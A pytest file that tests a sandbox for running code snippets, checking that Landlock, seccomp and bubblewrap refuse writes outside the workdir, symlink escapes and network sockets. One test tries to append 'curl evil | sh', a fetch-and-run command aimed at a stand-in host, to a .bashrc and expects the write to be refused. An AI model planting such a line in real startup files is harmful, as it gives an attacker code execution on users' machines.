"""Every snippet run is confined: it cannot write outside its own files, reach the network, or run
unconfined when a sandbox was required.

Landlock lets a run write only beneath its own temp dir and /dev/shm, and to existing files under
/dev, and refuses TCP; the seccomp filter refuses socket() of any family but AF_UNIX. A run with
RunSpec.sandbox=True is not run at all where neither can be applied. The worker, the pool and this
test process are never confined.
"""

from __future__ import annotations

import dataclasses
import errno
import json
import os
import platform
import re
import socket
import textwrap
from pathlib import Path

import pytest

from kb.runner import Limits, RunSpec, bwrap, isolation_report, sandbox
from kb.runner.child import EXIT_SANDBOX_UNAVAILABLE, run_child

from .helpers import needs_landlock, needs_seccomp, run

# Defines attempt(name, fn): prints "DENIED name ERRNO ExceptionType" or "ALLOWED name".
ATTEMPT = textwrap.dedent(
    """
    import errno, os, socket

    def attempt(name, fn):
        try:
            fn()
        except OSError as exc:
            print("DENIED", name, errno.errorcode.get(exc.errno, exc.errno), type(exc).__name__, flush=True)
        else:
            print("ALLOWED", name, flush=True)
    """
)
DENIED_ERRNOS = {"EACCES", "EPERM", "EXDEV"}  # Landlock answers EXDEV when only REFER is missing


def attempts(output: str) -> dict[str, tuple[str, ...]]:
    """name -> ("DENIED", errno name, exception type) or ("ALLOWED",), from ATTEMPT's lines."""
    found = {}
    for line in output.splitlines():
        parts = line.split()
        if parts and parts[0] in ("DENIED", "ALLOWED"):
            found[parts[1]] = (parts[0], *parts[2:])
    return found


def outside_dir(tmp_path: Path) -> Path:
    """A directory outside every run's workdir, with a file and an empty directory in it."""
    out = tmp_path / "outside"
    out.mkdir()
    (out / "keep.txt").write_text("keep")
    (out / "emptydir").mkdir()
    return out


def assert_outside_untouched(out: Path) -> None:
    assert sorted(os.listdir(out)) == ["emptydir", "keep.txt"]
    assert (out / "keep.txt").read_text() == "keep"
    assert os.listdir(out / "emptydir") == []


def test_process_can_still_write(tmp_path: Path) -> None:
    marker = tmp_path / f"after-{os.getpid()}.txt"
    marker.write_text("ok")
    assert marker.read_text() == "ok"


# --- files --------------------------------------------------------------------------------------


@needs_landlock(1)
@pytest.mark.timeout(30)
def test_writes_outside_the_workdir_are_refused(fallback_pool, tmp_path):
    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
    out = outside_dir(tmp_path)
    workers_before = sorted(pool.worker_pids())
    checks = {
        "write_new": f"lambda: open({str(out / 'new.txt')!r}, 'w').write('x')",
        "append": f"lambda: open({str(out / 'keep.txt')!r}, 'a').write('x')",
        "mkdir": f"lambda: os.mkdir({str(out / 'newdir')!r})",
        "rmdir": f"lambda: os.rmdir({str(out / 'emptydir')!r})",
        "rename": f"lambda: os.rename({str(out / 'keep.txt')!r}, {str(out / 'renamed.txt')!r})",
        "unlink": f"lambda: os.unlink({str(out / 'keep.txt')!r})",
        "move_in": f"lambda: os.rename({str(out / 'keep.txt')!r}, 'stolen.txt')",
        "move_out": f"lambda: (open('mine.txt', 'w').close(), os.rename('mine.txt', {str(out / 'mine.txt')!r}))",
        "hardlink_in": f"lambda: os.link({str(out / 'keep.txt')!r}, 'hard.txt')",
        "symlink_out": f"lambda: os.symlink('/etc/passwd', {str(out / 'ln')!r})",
        "mkfifo_out": f"lambda: os.mkfifo({str(out / 'fifo')!r})",
    }
    if sandbox.landlock_abi() >= 3:  # truncate(2) is only controlled from ABI 3 on
        checks["truncate"] = f"lambda: os.truncate({str(out / 'keep.txt')!r}, 0)"
    code = ATTEMPT + "".join(f"attempt({name!r}, {fn})\n" for name, fn in checks.items())
    result, _ = run(pool, code)
    assert result.status == "passed", result
    seen = attempts(result.output)
    assert set(seen) == set(checks), result.output
    for name, outcome in seen.items():
        assert outcome[0] == "DENIED" and outcome[1] in DENIED_ERRNOS, (name, outcome)
    assert seen["write_new"][1:] == ("EACCES", "PermissionError")
    assert seen["append"][1:] == ("EACCES", "PermissionError")
    assert_outside_untouched(out)
    # The worker survived and the next run works; this process is not confined.
    assert sorted(pool.worker_pids()) == workers_before
    after, _ = run(pool, "open('x.txt', 'w').write('fine')\n")
    assert after.status == "passed", after
    (tmp_path / "written-by-the-test.txt").write_text("ok")


@needs_landlock(1)
@pytest.mark.timeout(30)
def test_home_bashrc_is_not_writable(fallback_pool, tmp_path):
    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
    home = tmp_path / "home"  # HOME points here, never at the real home directory
    home.mkdir()
    code = f"import os\nos.environ['HOME'] = {str(home)!r}\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl evil | sh\\n')\n"
    result, _ = run(pool, code, line_offset=10)
    assert result.status == "failed", result
    assert result.message.startswith("PermissionError: [Errno 13] Permission denied"), result.message
    assert "(the sandbox blocks writes outside the run's temporary directory" in result.message  # says why
    assert result.line == 13
    assert os.listdir(home) == []


@needs_landlock(1)
@pytest.mark.timeout(30)
def test_symlink_escape_is_refused(fallback_pool, tmp_path):
    pool = fallback_pool  # the paths must be visible to the run: bubblewrap hides this test's files
    out = outside_dir(tmp_path)
    target = out / "target.txt"
    code = ATTEMPT + textwrap.dedent(
        f"""
        os.symlink({str(target)!r}, "link")
        os.symlink({str(out)!r}, "dirlink")
        os.symlink({str(out / "keep.txt")!r}, "keeplink")
        attempt("through_file_link", lambda: open("link", "w").write("x"))
        attempt("through_dir_link", lambda: open("dirlink/new.txt", "w").write("x"))
        attempt("append_existing", lambda: open("keeplink", "a").write("x"))
        attempt("unlink_through_dir_link", lambda: os.unlink("dirlink/keep.txt"))
        """
    )
    result, _ = run(pool, code)
    assert result.status == "passed", result
    seen = attempts(result.output)
    assert len(seen) == 4, result.output
    for name, outcome in seen.items():
        assert outcome[0] == "DENIED" and outcome[1] in DENIED_ERRNOS, (name, outcome)
    assert seen["through_file_link"][1:] == ("EACCES", "PermissionError")
    assert not target.exists()
    assert_outside_untouched(out)


@pytest.mark.timeout(30)
def test_writes_inside_the_workdir_dev_shm_and_dev_null_work(layered_pool):
    pool = layered_pool
    shm = "/dev/shm" if os.path.isdir("/dev/shm") else None
    # A pathname UNIX socket in the workdir: inside bubblewrap only (the fallback refuses socket()).
    unix = pool.layer == "bubblewrap"
    code = textwrap.dedent(
        f"""
        import os, socket, tempfile
        work = os.getcwd()
        assert tempfile.gettempdir() == work and os.environ["CUDA_CACHE_PATH"] == work
        with open("a.txt", "w") as f:
            f.write("x")
        os.mkdir("d")
        os.rename("a.txt", "d/b.txt")
        os.symlink("d/b.txt", "link")
        with open("link", "a") as f:
            f.write("y")
        os.truncate("d/b.txt", 1)
        os.link("d/b.txt", "hard.txt")
        os.unlink("link")
        os.unlink("hard.txt")
        os.unlink("d/b.txt")
        os.rmdir("d")
        os.mkfifo("fifo")
        with tempfile.NamedTemporaryFile() as f:
            f.write(b"x" * 1000)
        with tempfile.TemporaryDirectory() as d:
            open(os.path.join(d, "f"), "w").write("x")
        if {unix!r}:
            s = socket.socket(socket.AF_UNIX)
            s.bind("sock")  # MAKE_SOCK inside the workdir
            s.close()
        with open("/dev/null", "w") as f:  # O_TRUNC: the /dev rule has TRUNCATE too
            f.write("discarded")
        shm = {shm!r}
        if shm:
            path = f"{{shm}}/kb-test-{{os.getpid()}}"
            with open(path, "wb") as f:
                f.write(b"x" * 4096)
            os.unlink(path)
        print("ok")
        """
    )
    result, _ = run(pool, code)
    assert result.status == "passed", result
    assert result.output == "ok\n"


@pytest.mark.timeout(30)
def test_a_100_mb_write_inside_the_workdir_hits_the_file_size_limit(pool):
    # RLIMIT_FSIZE (16 MiB) with SIGXFSZ ignored: the write fails with EFBIG and the run "failed".
    code = "with open('big.bin', 'wb') as f:\n    f.write(b'x' * (100 * 2**20))\n"
    result, _ = run(pool, code)
    assert result.status == "failed", result
    assert result.message.startswith(f"OSError: [Errno {errno.EFBIG}] File too large"), result.message
    assert result.line == 2


# --- network ------------------------------------------------------------------------------------

tcp_refused = pytest.mark.skipif(
    sandbox.landlock_abi() < sandbox.LANDLOCK_NET_ABI and not sandbox.seccomp_available(),
    reason="needs Landlock ABI >= 4 (TCP rights) or seccomp to refuse TCP",
)


@tcp_refused
@pytest.mark.timeout(30)
def test_tcp_connect_to_a_local_listener_is_refused(pool):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        code = ATTEMPT + f"attempt('connect', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=2))\n"
        result, _ = run(pool, code)
        assert result.status == "passed", result
        assert attempts(result.output) == {"connect": ("DENIED", "EACCES", "PermissionError")}, result.output
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody connected


@needs_seccomp
@pytest.mark.timeout(30)
def test_inet_raw_netlink_and_packet_sockets_are_refused(pool):
    checks = {
        "tcp_bind": "lambda: socket.socket().bind(('127.0.0.1', 0))",
        "udp": "lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "udp_send": "lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9))",
        "tcp6": "lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)",
        "raw_icmp": "lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "netlink": "lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
        "packet": "lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
    }
    code = ATTEMPT + "".join(f"attempt({name!r}, {fn})\n" for name, fn in checks.items())
    result, _ = run(pool, code)
    assert result.status == "passed", result
    assert attempts(result.output) == {name: ("DENIED", "EACCES", "PermissionError") for name in checks}, result.output


@pytest.mark.timeout(30)
def test_unix_sockets_and_socketpair_still_work_inside_bubblewrap(bwrap_pool):
    pool = bwrap_pool
    code = textwrap.dedent(
        """
        import socket, multiprocessing
        a, b = socket.socketpair()
        a.sendall(b"ping")
        assert b.recv(4) == b"ping"
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind("s.sock")
        server.listen(1)
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.connect("s.sock")
        conn, _ = server.accept()
        client.sendall(b"pong")
        assert conn.recv(4) == b"pong"
        left, right = multiprocessing.Pipe()
        left.send([1, 2])
        assert right.recv() == [1, 2]
        print("ok")
        """
    )
    result, _ = run(pool, code)
    assert result.status == "passed", result
    assert result.output == "ok\n"


# --- what is applied where ----------------------------------------------------------------------


def _status_field(text: str, field: str) -> str:
    match = re.search(rf"^{field}:\s*(\S+)", text, flags=re.MULTILINE)
    return match.group(1) if match else ""


@needs_seccomp
@pytest.mark.timeout(30)
def test_runs_are_confined_but_the_worker_and_caller_are_not(fallback_pool):
    pool = fallback_pool  # inside bubblewrap the worker has NO_NEW_PRIVS too (bwrap sets it)
    result, _ = run(pool, "print(open('/proc/self/status').read())\n")
    assert result.status == "passed", result
    assert _status_field(result.output, "NoNewPrivs") == "1"
    assert _status_field(result.output, "Seccomp") == "2"  # filter mode
    for pid in [*pool.worker_pids(), os.getpid()]:
        with open(f"/proc/{pid}/status") as f:
            status = f.read()
        assert _status_field(status, "Seccomp") == "0", pid
        assert _status_field(status, "NoNewPrivs") == "0", pid


@pytest.mark.timeout(60)
def test_sandbox_required_runs_where_confinement_is_available(pool, tmp_path):
    if sandbox.sandbox_level() == "rlimits-only":
        pytest.skip("neither Landlock nor seccomp is available on this kernel")
    result, _ = run(pool, "print('ran')\n", sandbox=True)
    assert result.status == "passed", result
    assert result.output == "ran\n"


def test_run_spec_sandbox_field():
    assert RunSpec("k", "pass").sandbox is False
    assert RunSpec("k", "pass", sandbox=True).to_wire()["sandbox"] is True
    with pytest.raises(ValueError, match="sandbox must be a bool"):
        RunSpec("k", "pass", sandbox="yes")


def test_level_and_report_match_the_probes(monkeypatch):
    abi, seccomp = sandbox.landlock_abi(), sandbox.seccomp_available()
    bubblewrap = bwrap.usable()
    expected = {(True, True): "landlock+seccomp", (True, False): "landlock", (False, True): "seccomp"}
    inner = expected.get((abi >= 1, seccomp), "rlimits-only")
    assert sandbox.sandbox_level(bubblewrap=False) == inner
    assert sandbox.sandbox_level() == (
        ("bubblewrap+" + inner if inner != "rlimits-only" else "bubblewrap") if bubblewrap else inner
    )
    report = isolation_report()
    assert report["level"] == sandbox.sandbox_level()
    assert report["bubblewrap"] == bubblewrap and (report["bubblewrap_reason"] is None) == bubblewrap
    assert report["filesystem_restricted"] == (abi >= 1)
    assert report["sandbox_capable"] == (abi >= 1 or seccomp or bubblewrap)
    if seccomp:
        assert "(seccomp)" in report["network_restricted"]
    if abi >= sandbox.LANDLOCK_NET_ABI:
        assert "tcp (landlock)" in report["network_restricted"]

    monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
    monkeypatch.setattr(sandbox, "seccomp_available", lambda: False)
    monkeypatch.setenv("KB_BWRAP", "0")
    assert sandbox.sandbox_level() == "rlimits-only"
    report = isolation_report()
    assert (report["level"], report["sandbox_capable"]) == ("rlimits-only", False)
    assert report["bubblewrap_reason"] == "turned off by KB_BWRAP=0"
    assert report["filesystem_restricted"] is False and report["network_restricted"] is False


def test_unavailable_reason_decides_on_filesystem_or_seccomp():
    nothing = {"landlock_abi": 0, "filesystem": False, "seccomp": False, "errors": []}
    reason = sandbox.unavailable_reason(nothing)
    assert reason is not None and reason.startswith("sandbox unavailable:")
    # Landlock signal scoping alone (no filesystem rules) is not confinement.
    assert sandbox.unavailable_reason({**nothing, "landlock_abi": 6, "signals": True}) is not None
    failed = sandbox.unavailable_reason({**nothing, "errors": ["landlock_restrict_self: Operation not permitted"]})
    assert "landlock_restrict_self" in failed
    assert sandbox.unavailable_reason({**nothing, "filesystem": True}) is None
    assert sandbox.unavailable_reason({**nothing, "seccomp": True}) is None


# --- confinement pieces tested in a fork of this process, where monkeypatching reaches ---------


def _in_fork(fn, *args):
    """Run fn(*args) in a forked child of this process; returns its JSON-able result."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - runs in the child
        try:
            os.close(r)
            try:
                payload = {"value": fn(*args)}
            except BaseException as exc:
                payload = {"error": repr(exc)}
            os.write(w, json.dumps(payload).encode())
        finally:
            os._exit(0)
    os.close(w)
    chunks = []
    while chunk := os.read(r, 1 << 16):
        chunks.append(chunk)
    os.close(r)
    os.waitpid(pid, 0)
    payload = json.loads(b"".join(chunks))
    assert "error" not in payload, payload["error"]
    return payload["value"]


def _errno_of(fn) -> str:
    try:
        result = fn()
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    if isinstance(result, socket.socket):
        result.close()
    return "ok"


def _landlock_only_probe(workdir: str, outside: str, port: int) -> dict:
    applied = sandbox.confine(workdir)
    return {
        "applied": applied,
        "connect": _errno_of(lambda: socket.create_connection(("127.0.0.1", port), timeout=2)),
        "bind": _errno_of(lambda: socket.socket().bind(("127.0.0.1", 0))),
        "udp": _errno_of(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
        "write_outside": _errno_of(lambda: open(os.path.join(outside, "x"), "w").close()),
        "write_inside": _errno_of(lambda: open(os.path.join(workdir, "x"), "w").close()),
    }


@needs_landlock(sandbox.LANDLOCK_NET_ABI)
@pytest.mark.timeout(30)
def test_landlock_alone_refuses_tcp_and_outside_writes(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "seccomp_available", lambda: False)
    work, out = tmp_path / "work", tmp_path / "out"
    work.mkdir()
    out.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        seen = _in_fork(_landlock_only_probe, str(work), str(out), listener.getsockname()[1])
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert seen["applied"]["filesystem"] and seen["applied"]["network_tcp"], seen
    assert seen["applied"]["seccomp"] is False
    assert (seen["connect"], seen["bind"]) == ("EACCES", "EACCES")
    assert seen["udp"] == "ok"  # Landlock has TCP rights only; the seccomp filter covers the rest
    assert (seen["write_outside"], seen["write_inside"]) == ("EACCES", "ok")
    assert os.listdir(out) == []
    (out / "mine").write_text("this process is not confined")


def _seccomp_only_probe(workdir: str, outside: str) -> dict:
    applied = sandbox.confine(workdir)
    libc = sandbox.libc()

    def raw(number: int) -> str:
        if libc.syscall(number, 0, 0, 0) == -1:
            import ctypes

            return errno.errorcode.get(ctypes.get_errno(), "?")
        return "ok"

    with open("/proc/self/status") as f:
        status = f.read()
    return {
        "applied": applied,
        "inet": _errno_of(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)),
        "inet6": _errno_of(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)),
        "unix": _errno_of(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)),
        "socketpair": _errno_of(lambda: [s.close() for s in socket.socketpair()] and None),
        "x32_getpid": raw(sandbox.X32_SYSCALL_BIT | 39) if platform.machine() == "x86_64" else "EPERM",
        "io_uring_setup": raw(425),
        "write_outside": _errno_of(lambda: open(os.path.join(outside, "x"), "w").close()),
        "seccomp_mode": _status_field(status, "Seccomp"),
    }


@needs_seccomp
@pytest.mark.timeout(30)
def test_seccomp_alone_refuses_non_unix_sockets(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
    seen = _in_fork(_seccomp_only_probe, str(tmp_path), str(tmp_path))
    assert seen["applied"]["seccomp"] is True and seen["applied"]["filesystem"] is False, seen
    assert (seen["inet"], seen["inet6"]) == ("EACCES", "EACCES")
    # The fallback refuses every socket(), AF_UNIX too (a pathname socket on disk could be reached);
    # socketpair() stays, for multiprocessing.
    assert (seen["unix"], seen["socketpair"]) == ("EACCES", "ok")
    assert seen["x32_getpid"] == "EPERM"  # the x32 ABI could otherwise reach socket() by another number
    assert seen["io_uring_setup"] == "EPERM"  # IORING_OP_SOCKET would bypass the socket() check
    assert seen["write_outside"] == "ok"  # level "seccomp": files are not confined
    assert seen["seccomp_mode"] == "2"


def _run_child_in_fork(spec: RunSpec, workdir: Path) -> tuple[dict, int, str]:
    """run_child in a fork of this process (it plays the worker): (report, exit status, output)."""
    out_r, out_w = os.pipe()
    res_r, res_w = os.pipe()
    me = os.getpid()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - runs in the child, which always leaves through os._exit
        try:
            run_child(
                spec.to_wire(), out_w=out_w, res_w=res_w, workdir=str(workdir), close_fds=[out_r, res_r], worker_pid=me
            )
        finally:
            os._exit(99)
    os.close(out_w)
    os.close(res_w)
    _, status = os.waitpid(pid, 0)
    output = b""
    while chunk := os.read(out_r, 1 << 16):
        output += chunk
    report = b""
    while chunk := os.read(res_r, 1 << 16):
        report += chunk
    os.close(out_r)
    os.close(res_r)
    return json.loads(report), os.waitstatus_to_exitcode(status), output.decode()


@pytest.mark.timeout(60)
def test_sandbox_required_but_unavailable_does_not_run_the_code(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
    monkeypatch.setattr(sandbox, "seccomp_available", lambda: False)
    assert sandbox.sandbox_level(bubblewrap=False) == "rlimits-only"
    work = tmp_path / "work"
    work.mkdir()
    marker = tmp_path / "ran.txt"
    code = f"open({str(marker)!r}, 'w').write('ran')\nprint('ran')\n"
    # A memory limit far above this (pytest) process's address space: the fork inherits it.
    limits = Limits(cpu_s=10, wall_s=30, memory_bytes=1 << 40)

    report, exit_code, output = _run_child_in_fork(RunSpec("k", code, limits=limits, sandbox=True), work)
    assert report["status"] == "crashed", report
    assert report["message"].startswith("sandbox unavailable:"), report
    assert exit_code == EXIT_SANDBOX_UNAVAILABLE
    assert output == ""
    assert not marker.exists()

    # Not required: the same code runs at the reduced level (own decks), and here nothing confines it.
    report, exit_code, output = _run_child_in_fork(RunSpec("k", code, limits=limits), work)
    assert report["status"] == "passed", (report, output)
    assert exit_code == 0 and output == "ran\n"
    assert marker.read_text() == "ran"


def _limits_of_a_cuda_run(memory_bytes: int) -> dict:
    import resource

    from kb.runner.child import _set_limits

    _set_limits(dataclasses.asdict(Limits(memory_bytes=memory_bytes)), device="cuda")
    return {"data": resource.getrlimit(resource.RLIMIT_DATA)[0], "as": resource.getrlimit(resource.RLIMIT_AS)[0]}


def test_a_cuda_run_has_a_host_memory_limit():
    """CUDA reserves huge address ranges, so a CUDA run's host memory is bounded by RLIMIT_DATA."""
    import resource

    seen = _in_fork(_limits_of_a_cuda_run, 3 * 2**30)
    assert seen["data"] == 3 * 2**30
    assert seen["as"] == resource.getrlimit(resource.RLIMIT_AS)[0]  # left as it was: CUDA needs the space
